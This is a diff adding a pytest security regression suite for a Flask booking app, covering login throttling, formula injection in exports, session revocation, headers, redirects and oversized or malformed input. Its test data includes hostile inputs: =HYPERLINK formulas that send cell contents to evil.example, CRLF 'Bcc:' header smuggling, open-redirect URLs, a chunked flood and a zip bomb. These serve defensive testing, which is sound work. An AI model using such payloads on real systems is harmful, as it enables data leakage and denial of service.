@@ -1,0 +1,406 @@
+"""What an attack review found (issue: hardening), each reproduced from outside through HTTP where it can be."""
+from datetime import timedelta
+
+from booking import clock
+from booking.auth import services as auth
+from tests.conftest import PASSWORD
+
+TOKEN = "/api/v1/auth/token"
+
+
+def _token(api, username, password, address=None):
+    headers = {"X-Forwarded-For": address} if address else {}
+    return api.client.post(TOKEN, json={"username": username, "password": password}, headers=headers)
+
+
+def test_failures_against_made_up_names_never_lock_anyone_out(demo, api):
+    # Reproduced: 20 wrong passwords for made-up names from one address locked every login from it.
+    for n in range(25):
+        assert _token(api, f"nobody{n}", "wrong-password").status_code == 401
+    assert _token(api, "admin", PASSWORD).status_code == 200
+    assert _token(api, "secretary", PASSWORD).status_code == 200
+
+
+def test_failures_from_elsewhere_never_stop_a_correct_password(demo):
+    from booking import create_app
+    client = create_app({**demo.config, "PROXY_COUNT": 1}).test_client()  # behind the documented nginx
+
+    def attempt(password, address):
+        return client.post(TOKEN, json={"username": "admin", "password": password},
+                           headers={"X-Forwarded-For": address})
+
+    # Reproduced: 5 failures every 15 minutes kept `admin` locked for good, from anywhere.
+    for _ in range(8):
+        attempt("wrong-password", "203.0.113.7")
+    assert attempt("wrong-password", "203.0.113.7").status_code == 429
+    assert attempt(PASSWORD, "203.0.113.7").status_code == 429  # the guesser's own place waits
+    assert attempt(PASSWORD, "198.51.100.2").status_code == 200  # the real admin, elsewhere, logs in
+
+
+def test_without_a_proxy_setting_forwarded_headers_are_not_believed(demo, api):
+    for n in range(6):
+        _token(api, "admin", "wrong-password", address=f"192.0.2.{n}")
+    # All six came from the test client's own address: the header did not spread them out.
+    assert _token(api, "admin", PASSWORD, address="192.0.2.99").status_code == 429
+
+
+def test_the_delay_grows_with_each_failure_and_then_passes(demo):
+    limit = demo.config["LOGIN_MAX_FAILURES"]
+    base = demo.config["LOGIN_BASE_DELAY_SECONDS"]
+    assert auth.login_delay(limit - 1) == timedelta(0)
+    assert auth.login_delay(limit) == timedelta(seconds=base)
+    assert auth.login_delay(limit + 2) == timedelta(seconds=base * 4)
+    assert auth.login_delay(limit + 50) == timedelta(minutes=demo.config["LOGIN_WINDOW_MINUTES"])
+    now = clock.now()
+    for _ in range(limit):
+        try:
+            auth.authenticate("secretary", "bad", "10.0.0.9", now=now)
+        except auth.Unauthenticated:
+            pass
+    try:
+        auth.authenticate("secretary", PASSWORD, "10.0.0.9", now=now + timedelta(seconds=base - 1))
+    except auth.RateLimited as err:
+        assert "秒后再试" in err.message
+    else:
+        raise AssertionError("a correct password within the delay should wait")
+    later = now + timedelta(seconds=base + 1)
+    assert auth.authenticate("secretary", PASSWORD, "10.0.0.9", now=later).username == "secretary"
+
+
+def test_an_unknown_username_costs_the_same_password_check(demo, monkeypatch):
+    # Reproduced: 12 ms for an unknown name against 228 ms for a known one told which names exist.
+    checked = []
+    real = auth.check_password_hash
+    monkeypatch.setattr(auth, "check_password_hash", lambda h, p: checked.append(h) or real(h, p))
+    import models.user
+    monkeypatch.setattr(models.user, "check_password_hash", lambda h, p: checked.append(h) or real(h, p))
+    for name in ("nobody-here", "secretary"):
+        checked.clear()
+        try:
+            auth.authenticate(name, "wrong-password", "10.0.0.5")
+        except auth.Unauthenticated:
+            pass
+        assert len(checked) == 1, name
+        method = checked[0].split("$")[0]
+        assert method == demo.config["PASSWORD_HASH_METHOD"], (name, method)
+
+
+# -- exports: text that looks like a formula stays text ------------------------------------------------------
+
+def test_exports_never_write_a_formula(demo, client):
+    import csv as _csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from booking import exports
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    rows = [[evil, 1, 2, ""], ["+1+1", 3, 4, ""], ["-2", 5, 6, ""], ["@SUM(A1)", 7, 8, ""], ["合计", 16, 20, ""]]
+    text = exports.csv_bytes(["基地", "批次", "人次", "满意度"], rows).decode("utf-8-sig")
+    cells = [r[0] for r in _csv.reader(io.StringIO(text))][1:]
+    assert all(c.startswith("'") for c in cells[:4]) and cells[4] == "合计"
+    ws = load_workbook(io.BytesIO(exports.xlsx_bytes("=标题", "统计", ["基地"], rows))).active
+    values = [(c.value, c.data_type) for c in ws["A"]]
+    assert ("=标题", "s") in values and (evil, "s") in values and ("@SUM(A1)", "s") in values
+    assert all(kind != "f" for _, kind in values)
+
+
+def test_the_district_export_of_a_base_named_like_a_formula(demo, client):
+    # Reproduced: a manager named their base =HYPERLINK(...); the district's XLSX held a live formula.
+    from booking.manage import services as manage
+    from models import Base, db
+    from tests.factories import completed, user
+    base = db.session.get(Base, 1)
+    evil = '=HYPERLINK("http://evil.example","点击")'
+    manage.update_base(user("manager"), base, name=evil, type=base.type, address=base.address,
+                       description=base.description, contact_name=base.contact_name,
+                       contact_phone=base.contact_phone, min_advance_days=1, max_advance_days=60,
+                       cancel_deadline_hours=24, requires_approval=True)
+    completed()
+    from tests.conftest import login
+    login(client, "admin")
+    import io
+
+    from openpyxl import load_workbook
+    r = client.get("/stats/export.xlsx?group_by=base")
+    assert r.status_code == 200
+    cells = [c for row in load_workbook(io.BytesIO(r.data)).active.iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
+    import csv as _csv
+    text = client.get("/stats/export.csv?group_by=base").data.decode("utf-8-sig")
+    assert f"'{evil}" in [row[0] for row in _csv.reader(io.StringIO(text))]
+
+
+def test_names_refuse_control_characters(demo, client):
+    from tests.conftest import login
+    login(client, "admin")
+    r = client.post("/admin/organizations/new", data={"name": "区委\n组织部", "sector": "government"})
+    assert r.status_code == 200 and "控制字符" in r.get_data(as_text=True)
+    login(client, "admin")
+    r = client.post("/admin/bases", data={"name": "新基地\r\nBcc: x@example.org", "type": "red", "address": "",
+                                          "description": ""})
+    assert r.status_code == 422 and "控制字符" in r.get_data(as_text=True)
+
+
+# -- web sessions can be ended -------------------------------------------------------------------------------
+
+def _copy_cookie(source, target):
+    cookie = source.get_cookie("session")
+    target.set_cookie("session", cookie.value)
+
+
+def test_a_copied_session_cookie_dies_with_logout(demo):
+    from tests.conftest import login
+    victim, thief = demo.test_client(), demo.test_client()
+    assert login(victim, "secretary").status_code == 302
+    _copy_cookie(victim, thief)
+    from flask import g
+    g.pop("_login_user", None)
+    assert thief.get("/bookings").status_code == 200  # the copy works while the session lives …
+    victim.post("/logout")
+    g.pop("_login_user", None)
+    assert thief.get("/bookings").status_code == 302  # … and not after the logout
+
+
+def test_password_reset_and_deactivation_end_sessions(demo):
+    from flask import g
+
+    from booking.auth import services as accounts
+    from tests.conftest import login
+    from tests.factories import user
+    for name, end in (("secretary2", lambda u: accounts.reset_password(user("admin"), u, "another-pass-2026")),
+                      ("manager2", lambda u: accounts.set_active(user("admin"), u, False))):
+        client = demo.test_client()
+        assert login(client, name).status_code == 302
+        g.pop("_login_user", None)
+        assert client.get("/bookings").status_code == 200
+        end(user(name))
+        g.pop("_login_user", None)
+        assert client.get("/bookings").status_code == 302
+        accounts.set_active(user("admin"), user(name), True)
+
+
+def test_a_session_ends_after_its_lifetime_and_login_starts_a_new_one(demo, monkeypatch):
+    from flask import g
+
+    from tests.conftest import login
+    client = demo.test_client()
+    with client.session_transaction() as s:
+        s["left_over"] = "from before the login"
+    assert login(client, "manager").status_code == 302
+    with client.session_transaction() as s:
+        assert "left_over" not in s and isinstance(s["login_at"], int)
+    later = clock.now() + timedelta(hours=demo.config["SESSION_MAX_HOURS"], minutes=1)
+    monkeypatch.setattr(clock, "now", lambda: later)
+    g.pop("_login_user", None)
+    assert client.get("/manage/today").status_code == 302
+
+
+# -- headers -----------------------------------------------------------------------------------------------
+
+def test_security_headers_on_pages_and_api(demo, client, api):
+    from tests.conftest import login
+    login(client, "manager")
+    for r in (client.get("/manage/today"), client.get("/login"), api.get("/api/v1/me", as_="manager"),
+              client.get("/static/js/app.js")):
+        h = r.headers
+        assert "frame-ancestors 'none'" in h["Content-Security-Policy"] and "script-src 'self'" in h["Content-Security-Policy"]
+        assert h["X-Frame-Options"] == "DENY" and h["X-Content-Type-Options"] == "nosniff"
+        assert h["Referrer-Policy"] == "same-origin"
+        assert "Strict-Transport-Security" not in h  # plain HTTP in tests
+
+
+def test_hsts_and_secure_cookie_when_served_over_https(demo):
+    from booking import create_app
+    from tests.conftest import PASSWORD as pw
+    app = create_app({**demo.config, "HTTPS": True, "SESSION_COOKIE_SECURE": True, "PROXY_COUNT": 1})
+    client = app.test_client()
+    r = client.post("/login", data={"username": "admin", "password": pw}, headers={"X-Forwarded-Proto": "https"})
+    assert "Secure" in r.headers["Set-Cookie"] and "HttpOnly" in r.headers["Set-Cookie"]
+    assert r.headers["Strict-Transport-Security"].startswith("max-age=")
+
+
+def test_no_inline_scripts_or_styles_in_templates():
+    import re
+    from pathlib import Path
+    root = Path(__file__).resolve().parent.parent / "templates"
+    found = []
+    for path in root.rglob("*.html"):
+        text = path.read_text(encoding="utf-8")
+        found += [f"{path.name}: {m}" for m in re.findall(r'\son[a-z]+="[^"]*"|\sstyle="[^"]*"', text)]
+        found += [f"{path.name}: inline script" for m in re.findall(r"<script(?![^>]*\b(src|type=\"application/json\"))[^>]*>", text)]
+    assert found == []
+
+
+# -- crafted input never answers 500 ----------------------------------------------------------------------
+
+def test_absurd_page_numbers_on_every_list_page(demo, client):
+    from tests.conftest import login
+    pages = {"admin": ["/admin/users", "/admin/organizations", "/admin/lecturers", "/admin/audit", "/bookings",
+                       "/notifications", "/"],
+             "manager": ["/manage/pending", "/bookings"]}
+    for name, paths in pages.items():
+        client.post("/logout")
+        login(client, name)
+        for path in paths:
+            r = client.get(f"{path}?page=99999999999999999999")
+            assert r.status_code in (200, 302), (path, r.status_code)
+            r = client.get(f"{path}?page=-5")
+            assert r.status_code in (200, 302), (path, r.status_code)
+
+
+def test_closures_at_the_ends_of_the_calendar(demo, client):
+    from tests.conftest import login
+    login(client, "manager")
+    for start, end in (("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31"), ("2026-12-01", "9999-12-31")):
+        r = client.post("/manage/bases/1/closures", data={"venue_id": 0, "start_date": start, "end_date": end,
+                                                          "reason": "测试"})
+        assert r.status_code == 422 and "年之间的日期" in r.get_data(as_text=True), (start, end)
+
+
+def test_deeply_nested_json_even_unauthenticated(demo, api):
+    body = b"[" * 100000 + b"]" * 100000
+    for path in ("/api/v1/auth/token", "/api/v1/bookings"):
+        r = api.client.post(path, data=body, content_type="application/json")
+        assert r.status_code in (400, 401, 413) and r.get_json()["error"]["code"] in (
+            "bad_request", "unauthenticated", "payload_too_large"), path
+    nested = b'{"a":' * 20000 + b"1" + b"}" * 20000  # under the body limit
+    assert len(nested) < demo.config["API_MAX_BODY"] * 4
+    r = api.client.post("/api/v1/auth/token", data=nested[:60000] if len(nested) > 60000 else nested,
+                        content_type="application/json")
+    assert r.status_code in (400, 413) and r.is_json
+
+
+def test_a_chunked_body_over_the_limit_is_413_not_parsed(demo):
+    # Reproduced: a 6 MB chunked body to the API was read and parsed whole.
+    from tests.server import gunicorn
+    import json as _json
+    import socket
+    with gunicorn(demo.config["SQLALCHEMY_DATABASE_URI"], workers=1) as url:
+        host, port = url.removeprefix("http://").split(":")
+        with socket.create_connection((host, int(port)), timeout=30) as sock:
+            sock.sendall(b"POST /api/v1/auth/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                         b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
+            piece = b"a" * 60000
+            try:
+                for _ in range(100):  # 6 MB, as reproduced
+                    sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
+                sock.sendall(b"0\r\n\r\n")
+            except OSError:  # the server answered and closed while the body was still coming: as it should
+                pass
+            answer = b""
+            while chunk := sock.recv(65536):
+                answer += chunk
+        head, _, body = answer.partition(b"\r\n\r\n")
+        assert head.startswith(b"HTTP/1.1 413"), head[:200]
+        assert b"payload_too_large" in body
+        # An over-long URL is answered by the app, in the contract's JSON (gunicorn's own 414 is HTML).
+        import http.client
+        conn = http.client.HTTPConnection(host, int(port), timeout=30)
+        conn.request("GET", "/api/v1/bases?q=" + "x" * 10000)
+        r = conn.getresponse()
+        assert r.status == 414 and _json.loads(r.read())["error"]["code"] == "uri_too_long"
+
+
+def test_imports_with_a_huge_cell_a_nul_or_too_many_rows(demo, client):
+    import io
+
+    from tests.conftest import login
+    login(client, "admin")
+
+    def upload(data: bytes, name="b.csv"):
+        return client.post("/admin/branches/import", data={"file": (io.BytesIO(data), name)},
+                           content_type="multipart/form-data", follow_redirects=True)
+
+    header = "党组织,所属领域,支部名称\n".encode()
+    r = upload(header + b'"' + b"x" * 200000 + '",机关,一支部\n'.encode())
+    assert r.status_code == 200 and "无法读取" in r.get_data(as_text=True)
+    r = upload(header + "区委,机关,一\x00支部\n".encode())
+    assert r.status_code == 200 and "空字符" in r.get_data(as_text=True)
+    r = upload(header + "".join(f"区委,机关,第{i}支部\n" for i in range(6000)).encode())
+    assert "最多 5000 行" in r.get_data(as_text=True)
+    r = upload(b"x" * (3 * 1024 * 1024))
+    assert "不能超过 2 MB" in r.get_data(as_text=True)
+
+
+def test_an_xlsx_that_unpacks_to_a_flood_is_refused_before_parsing(demo, client):
+    import io
+    import zipfile
+
+    from tests.conftest import login
+    login(client, "admin")
+    # 429 KB of zip, a million rows inside: reproduced as keeping a worker busy until gunicorn killed it.
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        z.writestr("xl/worksheets/sheet1.xml", "<row><c><v>1</v></c></row>" * 1_000_000)
+    r = client.post("/admin/branches/import", data={"file": (io.BytesIO(data.getvalue()), "b.xlsx")},
+                    content_type="multipart/form-data", follow_redirects=True)
+    assert len(data.getvalue()) < 1024 * 1024 and "内容过大" in r.get_data(as_text=True)
+
+
+def test_a_nul_in_a_photo_file_name_is_400(demo, client):
+    import io
+
+    from tests.conftest import login
+    from tests.factories import completed
+    b = completed()
+    login(client, "secretary")
+    r = client.post(f"/bookings/{b.id}/record", data={"summary": "纪实", "photos": (io.BytesIO(b"GIF89a...."), "a\x00.gif")},
+                    content_type="multipart/form-data")
+    assert r.status_code == 400
+
+
+def test_a_failed_request_on_postgresql_still_gets_the_chinese_error_page(demo, client, monkeypatch):
+    # Reproduced on PostgreSQL: the error page read the failed session and crashed into gunicorn's bare 500.
+    from sqlalchemy import text
+
+    from models import db
+    from tests.conftest import login
+    login(client, "secretary")
+    import booking.reservations.routes as routes
+
+    def broken(*a, **k):
+        db.session.execute(text("SELECT * FROM no_such_table"))
+
+    monkeypatch.setattr(routes.services, "visible_query", broken)
+    demo.config["PROPAGATE_EXCEPTIONS"] = False
+    r = client.get("/bookings")
+    assert r.status_code == 500 and "服务器出了点问题" in r.get_data(as_text=True)
+
+
+def test_login_next_never_leaves_the_site(demo, client):
+    from tests.conftest import PASSWORD as pw
+    for target in ("//evil.example/", "/\\evil.example/", "https://evil.example/"):
+        r = client.post(f"/login?next={target}", data={"username": "admin", "password": pw})
+        assert r.status_code == 302 and "evil" not in r.headers["Location"], target
+        client.post("/logout")
+
+
+def test_mail_that_cannot_be_sent_never_fails_the_request(demo, client):
+    # Reproduced: a line break in a base name, with mail configured, answered 500 after the change was saved.
+    from booking.notify.services import send_mail
+    demo.config.update(MAIL_HOST="127.0.0.1", MAIL_PORT=1)  # nothing listens there
+    assert send_mail([("a@example.org", "标题\r\nBcc: x@example.org", "正文")]) == 0
+
+
+def test_seed_demo_refuses_a_database_in_real_use(demo):
+    from booking.auth.services import create_user
+    runner = demo.test_cli_runner()
+    assert runner.invoke(args=["seed-demo"]).exit_code == 0
+    create_user(None, username="wangfang", password="real-pass-2026", role="admin")
+    r = runner.invoke(args=["seed-demo"])
+    assert r.exit_code == 1 and "非演示账号" in r.output
+    assert runner.invoke(args=["seed-demo", "--force"]).exit_code == 0
+
+
+def test_uploaded_photos_are_not_world_readable(demo):
+    import os
+    import stat
+
+    from booking.visits import services as visits
+    from tests.factories import completed, user
+    b = completed()
+    visits.save_activity_record(user("secretary"), b, "纪实", [("a.gif", b"GIF89a" + b"\x00" * 10)])
+    path = os.path.join(visits.photo_folder(), b.photos[0].stored_name)
+    assert stat.S_IMODE(os.stat(path).st_mode) & 0o007 == 0
